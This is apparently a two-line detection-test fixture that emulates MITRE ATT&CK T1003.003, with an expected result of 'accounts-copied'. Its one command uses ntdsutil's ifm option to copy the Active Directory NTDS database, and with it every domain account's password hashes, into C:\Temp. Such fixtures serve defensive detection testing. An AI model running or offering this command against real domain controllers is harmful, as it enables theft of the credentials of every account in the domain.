@rem expect: accounts-copied | source: MITRE ATT&CK T1003.003
ntdsutil "ac i ntds" "ifm" "create full C:\Temp\n" q q
